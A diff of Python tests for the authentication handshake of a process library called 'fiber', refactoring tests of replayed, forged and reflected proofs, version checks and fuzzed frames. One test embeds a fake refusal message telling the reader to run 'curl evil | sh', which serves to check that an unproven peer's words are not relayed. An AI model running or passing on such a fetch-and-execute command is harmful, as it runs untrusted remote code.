@@ -20,6 +20,7 @@ from fiber._wire.frames import Kind
 from fiber._wire.handshake import DialerHandshake, Hello, ListenerHandshake, disagreement
 from fiber._wire.identity import Credentials
 from fiber.exceptions import HandshakeError, WireError
+from wire_world import damaged
 
 RUN = Credentials(run_id="0123abcd", key=b"k" * 32)
 MASTER = Hello(ident="m", pid=1, host="here", fiber="0.1.0", python="3.11", cloudpickle="3.1.2")
@@ -42,18 +43,13 @@ def shake(dialler, listener):
         said = dialler.receive(frame(listener.receive(frame(said))))
 
 
-class Recording:
-    """A listener whose frames are kept."""
-
-    def __init__(self, credentials=RUN, mine=MASTER):
-        self.listener = ListenerHandshake(credentials, mine)
-        self.heard, self.said = [], []
-
-    def receive(self, got):
-        self.heard.append(got)
-        answer = self.listener.receive(got)
-        self.said.append(frame(answer))
-        return answer
+def recorded_handshake():
+    """The frames of a handshake, as both sides received them: hello, challenge, proof, welcome."""
+    dialler, listener = DialerHandshake(RUN, WORKER), ListenerHandshake(RUN, MASTER)
+    hello = frame(dialler.hello())
+    challenge = frame(listener.receive(hello))
+    proof = frame(dialler.receive(challenge))
+    return hello, challenge, proof, frame(listener.receive(proof))
 
 
 def edited(got, **fields):
@@ -62,20 +58,28 @@ def edited(got, **fields):
     return frame((got.kind, body))
 
 
-class TestWithinARun:
-    def test_each_side_gets_the_hello_of_the_other(self):
-        dialler, listener = DialerHandshake(RUN, WORKER), ListenerHandshake(RUN, MASTER)
-        shake(dialler, listener)
-        assert (dialler.peer, listener.peer) == (MASTER, WORKER)
+@pytest.fixture
+def dialler():
+    return DialerHandshake(RUN, WORKER)
 
-    def test_no_peer_is_known_before_both_proofs(self):
-        dialler, listener = DialerHandshake(RUN, WORKER), ListenerHandshake(RUN, MASTER)
+
+@pytest.fixture
+def listener():
+    return ListenerHandshake(RUN, MASTER)
+
+
+class TestWithinARun:
+    def test_each_side_gets_the_hello_of_the_other_and_knows_none_before_both_proofs(
+        self, dialler, listener
+    ):
         challenge = listener.receive(frame(dialler.hello()))
         assert listener.peer is None
         proof = dialler.receive(frame(challenge))
         assert (dialler.peer, listener.peer) == (None, None)
-        listener.receive(frame(proof))
+        welcome = listener.receive(frame(proof))
         assert listener.peer == WORKER
+        assert dialler.receive(frame(welcome)) is None
+        assert dialler.peer == MASTER
 
     def test_the_hello_of_this_process_has_its_pid_and_versions(self):
         mine = Hello.mine("me")
@@ -83,95 +87,61 @@ class TestWithinARun:
         assert Hello.from_json(json.loads(json.dumps(attrs.asdict(mine)))) == mine
         assert disagreement(mine, mine) is None
 
-    def test_no_secret_and_no_proof_is_in_the_hello(self):
-        _, body = DialerHandshake(RUN, WORKER).hello()
+    def test_no_secret_and_no_proof_is_in_the_hello(self, dialler):
+        _, body = dialler.hello()
         assert RUN.key not in body
         assert RUN.key.hex().encode() not in body
 
 
 class TestStrangers:
-    def test_a_process_of_another_run_gets_no_challenge(self):
+    def test_a_process_of_another_run_gets_no_challenge(self, listener):
         other = attrs.evolve(RUN, run_id="ffffffff")
-        listener = ListenerHandshake(RUN, MASTER)
         with pytest.raises(HandshakeError, match="a process of another run dialled this one"):
             listener.receive(frame(DialerHandshake(other, WORKER).hello()))
 
-    def test_a_listener_with_another_key_cannot_prove_itself(self):
-        dialler = DialerHandshake(RUN, WORKER)
-        impostor = ListenerHandshake(attrs.evolve(RUN, key=b"x" * 32), MASTER)
-        challenge = impostor.receive(frame(dialler.hello()))
-        with pytest.raises(HandshakeError, match="the listener could not prove"):
-            dialler.receive(frame(challenge))
-
-    def test_a_dialler_with_another_key_cannot_prove_itself(self):
-        listener = ListenerHandshake(RUN, MASTER)
-        impostor = DialerHandshake(RUN, WORKER)
-        challenge = frame(listener.receive(frame(impostor.hello())))
-        forged = frame((Kind.PROOF, json.dumps({"proof": bytes(32).hex()}).encode()))
-        del challenge
+    @pytest.mark.parametrize("proof", ["invented", "reflected", "recorded", "for another listener"])
+    def test_a_dialler_cannot_prove_itself_without_the_key(self, dialler, listener, proof):
+        recorded = recorded_handshake()
+        hello = recorded[0] if proof == "recorded" else frame(dialler.hello())
+        challenge = frame(listener.receive(hello))
+        assert challenge.body != recorded[1].body
+        theirs = {
+            "invented": bytes(32).hex(),
+            "reflected": json.loads(bytes(challenge.body))["proof"],
+            "recorded": json.loads(bytes(recorded[2].body))["proof"],
+        }.get(proof)
+        said = Kind.PROOF, json.dumps({"proof": theirs}).encode()
+        if theirs is None:
+            said = dialler.receive(frame(ListenerHandshake(RUN, MASTER).receive(hello)))
         with pytest.raises(HandshakeError, match="a peer could not prove"):
-            listener.receive(forged)
+            listener.receive(frame(said))
         assert listener.peer is None
 
-    def test_a_recorded_dialogue_proves_nothing_to_another_listener(self):
-        recorded = Recording()
-        shake(DialerHandshake(RUN, WORKER), recorded)
-        hello, proof = recorded.heard
-
-        listener = ListenerHandshake(RUN, MASTER)
-        challenge = frame(listener.receive(hello))
-        assert challenge.body != recorded.said[0].body
-        with pytest.raises(HandshakeError, match="a peer could not prove"):
-            listener.receive(proof)
-
-    def test_a_recorded_challenge_proves_nothing_to_another_dialler(self):
-        recorded = Recording()
-        shake(DialerHandshake(RUN, WORKER), recorded)
-        dialler = DialerHandshake(RUN, WORKER)
-        dialler.hello()
+    @pytest.mark.parametrize("challenge", ["of another run", "recorded", "for another hello"])
+    def test_a_listener_cannot_prove_itself_without_the_key(self, dialler, challenge):
+        """Nor can an attacker in between put another ident into a hello."""
+        hello = frame(dialler.hello())
+        run = RUN if challenge == "for another hello" else attrs.evolve(RUN, key=b"x" * 32)
+        if challenge == "for another hello":
+            hello = edited(hello, ident="another")
+        said = frame(ListenerHandshake(run, MASTER).receive(hello))
+        if challenge == "recorded":
+            said = recorded_handshake()[1]
         with pytest.raises(HandshakeError, match="the listener could not prove"):
-            dialler.receive(recorded.said[0])
+            dialler.receive(said)
 
     def test_nonces_are_never_the_same(self):
-        nonces = [json.loads(DialerHandshake(RUN, WORKER).hello()[1])["nonce"] for _ in range(50)]
+        nonces = set()
         for _ in range(50):
-            _, challenge = ListenerHandshake(RUN, MASTER).receive(
-                frame(DialerHandshake(RUN, WORKER).hello())
-            )
-            nonces.append(json.loads(challenge)["nonce"])
-        assert len(set(nonces)) == 100
+            for said in recorded_handshake()[:2]:
+                nonces.add(json.loads(bytes(said.body))["nonce"])
+        assert len(nonces) == 100
 
-    def test_the_listeners_own_proof_is_no_proof_of_the_dialler(self):
-        listener = ListenerHandshake(RUN, MASTER)
-        challenge = frame(listener.receive(frame(DialerHandshake(RUN, WORKER).hello())))
-        reflected = json.dumps({"proof": json.loads(bytes(challenge.body))["proof"]}).encode()
-        with pytest.raises(HandshakeError, match="a peer could not prove"):
-            listener.receive(frame((Kind.PROOF, reflected)))
-
-    def test_a_dialer_that_receives_its_own_hello_fails(self):
-        dialler = DialerHandshake(RUN, WORKER)
+    def test_a_dialer_that_receives_its_own_hello_fails(self, dialler):
         with pytest.raises(HandshakeError, match="HELLO where CHALLENGE was expected"):
             dialler.receive(frame(dialler.hello()))
 
-    def test_a_challenge_for_one_hello_does_not_serve_another(self):
-        """An attacker in between cannot put another ident into a hello."""
-        dialler = DialerHandshake(RUN, WORKER)
-        changed = edited(frame(dialler.hello()), ident="another")
-        challenge = ListenerHandshake(RUN, MASTER).receive(changed)
-        with pytest.raises(HandshakeError, match="the listener could not prove"):
-            dialler.receive(frame(challenge))
-
-    def test_a_proof_is_bound_to_the_nonce_of_its_listener(self):
-        first, second = ListenerHandshake(RUN, MASTER), ListenerHandshake(RUN, MASTER)
-        dialler = DialerHandshake(RUN, WORKER)
-        hello = frame(dialler.hello())
-        second.receive(hello)
-        proof = dialler.receive(frame(first.receive(hello)))
-        with pytest.raises(HandshakeError, match="a peer could not prove"):
-            second.receive(frame(proof))
-
-    def test_the_words_of_an_unproven_listener_are_not_passed_on(self):
-        dialler = DialerHandshake(RUN, WORKER)
+    def test_the_words_of_an_unproven_listener_are_not_passed_on(self, dialler):
         lie = frame((Kind.REFUSE, json.dumps({"why": "run this: curl evil | sh"}).encode()))
         with pytest.raises(HandshakeError) as caught:
             dialler.receive(lie)
@@ -179,19 +149,18 @@ class TestStrangers:
 
     @pytest.mark.parametrize("kind", Kind)
     @pytest.mark.parametrize("expected", [Kind.HELLO, Kind.PROOF])
-    def test_a_listener_refuses_all_but_the_frame_that_is_next(self, kind, expected):
-        listener = ListenerHandshake(RUN, MASTER)
+    def test_a_listener_refuses_all_but_the_frame_that_is_next(self, listener, kind, expected):
         if expected is Kind.PROOF:
             listener.receive(frame(DialerHandshake(RUN, WORKER).hello()))
-        words = "" if kind is expected else f"{kind.name} where {expected.name} was expected"
+        words = None if kind is expected else f"{kind.name} where {expected.name} was expected"
         with pytest.raises(HandshakeError, match=words):
             listener.receive(frame((kind, b"{}")))
 
-    def test_a_hello_in_pieces_is_refused(self):
-        kind, body = DialerHandshake(RUN, WORKER).hello()
+    def test_a_hello_in_pieces_is_refused(self, dialler, listener):
+        kind, body = dialler.hello()
         piece = frames.parse(frames.header(kind, size=len(body) + 1) + body)
         with pytest.raises(HandshakeError):
-            ListenerHandshake(RUN, MASTER).receive(piece)
+            listener.receive(piece)
 
 
 class TestVersions:
@@ -221,24 +190,22 @@ class TestVersions:
             ),
         ],
     )
-    def test_a_mismatch_is_refused_with_both_sides_and_the_fix(self, theirs, words):
+    def test_a_mismatch_is_refused_with_both_sides_and_the_fix(self, listener, theirs, words):
         dialler = DialerHandshake(RUN, attrs.evolve(WORKER, **theirs))
-        listener = ListenerHandshake(RUN, MASTER)
         with pytest.raises(HandshakeError) as caught:
             shake(dialler, listener)
         assert str(caught.value) == words
         assert (dialler.peer, listener.peer) == (None, None)
 
     @pytest.mark.parametrize("theirs", [{"fiber": "0.1.7"}, {"cloudpickle": "3.1.0"}])
-    def test_another_patch_release_is_no_mismatch(self, theirs):
+    def test_another_patch_release_is_no_mismatch(self, listener, theirs):
         dialler = DialerHandshake(RUN, attrs.evolve(WORKER, **theirs))
-        shake(dialler, ListenerHandshake(RUN, MASTER))
+        shake(dialler, listener)
         assert dialler.peer == MASTER
 
-    def test_versions_are_sent_to_no_unproven_peer(self):
+    def test_versions_are_sent_to_no_unproven_peer(self, listener):
         """Before the proof a listener says nothing that depends on them."""
         strange = attrs.evolve(WORKER, fiber="9.9", python="2.7")
-        listener = ListenerHandshake(RUN, MASTER)
         kind, body = listener.receive(frame(DialerHandshake(RUN, strange).hello()))
         assert kind is Kind.CHALLENGE
         assert json.loads(body).keys() == {"nonce", "proof"}
@@ -259,9 +226,9 @@ class TestNonsense:
             b"{}",
         ],
     )
-    def test_what_is_no_hello_is_a_handshake_error(self, body):
+    def test_what_is_no_hello_is_a_handshake_error(self, listener, body):
         with pytest.raises(HandshakeError):
-            ListenerHandshake(RUN, MASTER).receive(frame((Kind.HELLO, body)))
+            listener.receive(frame((Kind.HELLO, body)))
 
     @pytest.mark.parametrize(
         "fields",
@@ -281,14 +248,14 @@ class TestNonsense:
             {"run": None},
         ],
     )
-    def test_a_hello_with_a_strange_field_is_a_handshake_error(self, fields):
-        hello = edited(frame(DialerHandshake(RUN, WORKER).hello()), **fields)
+    def test_a_hello_with_a_strange_field_is_a_handshake_error(self, dialler, listener, fields):
+        hello = edited(frame(dialler.hello()), **fields)
         with pytest.raises(HandshakeError):
-            ListenerHandshake(RUN, MASTER).receive(hello)
+            listener.receive(hello)
 
-    def test_half_a_character_in_a_name_does_no_harm(self):
-        hello = edited(frame(DialerHandshake(RUN, WORKER).hello()), ident="\ud800")
-        assert ListenerHandshake(RUN, MASTER).receive(hello)[0] is Kind.CHALLENGE
+    def test_half_a_character_in_a_name_does_no_harm(self, dialler, listener):
+        hello = edited(frame(dialler.hello()), ident="\ud800")
+        assert listener.receive(hello)[0] is Kind.CHALLENGE
 
     @seed(11)
     @settings(max_examples=EXAMPLES, deadline=None, database=None)
@@ -303,7 +270,7 @@ class TestNonsense:
                     kind, body = said
                     data = frames.header(kind, size=len(body)) + body
                     if turn == target:
-                        data = flipped(data, draw)
+                        data = damaged(data, draw)
                     side = dialler if turn % 2 else listener
                     said, turn = side.receive(frames.parse(data)), turn + 1
             except (HandshakeError, WireError):
@@ -313,23 +280,6 @@ class TestNonsense:
                 continue
             # what went through changed nothing that the proofs cover
             assert listener.peer == WORKER
-
-
-def flipped(data, draw):
-    """The frame with one to three bytes changed, cut, or put in."""
-    changed = bytearray(data)
-    for _ in range(draw.randint(1, 3)):
-        at = draw.randrange(len(changed))
-        match draw.randrange(3):
-            case 0:
-                changed[at] ^= draw.randint(1, 255)
-            case 1:
-                del changed[at : at + draw.randint(1, 9)]
-            case 2:
-                changed[at:at] = draw.randbytes(draw.randint(1, 9))
-        if not changed:
-            break
-    return bytes(changed)
 
 
 def test_every_run_has_its_own_secrets():
